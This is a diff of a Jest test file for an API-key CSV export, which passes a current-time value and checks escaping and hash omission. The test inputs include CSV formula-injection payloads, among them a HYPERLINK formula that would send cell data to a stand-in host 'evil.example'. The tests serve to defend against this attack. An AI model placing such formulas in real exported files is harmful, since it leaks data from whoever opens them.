@@ -2,11 +2,11 @@ import { expect, test } from '@jest/globals';
 import { parse } from 'csv-parse/sync';
 import { publicRecord } from '../../cli/publicRecord.ts';
 import { keysCsv } from '../../console/page/keysCsv.ts';
-import { at, makeKey } from '../support/keys.ts';
+import { at, makeKey, NOW_MS } from '../support/keys.ts';
 
 function rowsOf(...labels: readonly string[]): readonly Record<string, string>[] {
-  const keys = labels.map((label) => ({ ...publicRecord(makeKey({ label }).record), state: 'active' as const }));
-  return parse(keysCsv(keys), { columns: true });
+  const keys = labels.map((label) => publicRecord(makeKey({ label }).record));
+  return parse(keysCsv(keys, NOW_MS), { columns: true });
 }
 
 test.each(['=HYPERLINK("http://evil.example?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tx', '＝1', "'=1"])(
@@ -29,7 +29,7 @@ test.each(['a,b', 'a"b', 'a\nb', 'a\r\nb,"=1', '"', ',,,'])('a label that is CSV
 
 test('no hash is in it, and lists and objects are cells', () => {
   const { record } = makeKey({ scopes: ['a', 'b'], metadata: { seats: 3, '=x': '"' }, owner: '=1', expiresAt: at(1) });
-  const csv = keysCsv([{ ...publicRecord(record), state: 'active' }]);
+  const csv = keysCsv([publicRecord(record)], NOW_MS);
   expect(csv).not.toContain(record.keyHash);
   expect(parse(csv, { columns: true })).toMatchObject([
     { scopes: 'a b', metadata: '{"seats":3,"=x":"\\""}', owner: "'=1", expiresAt: at(1), lastUsedAt: '' },
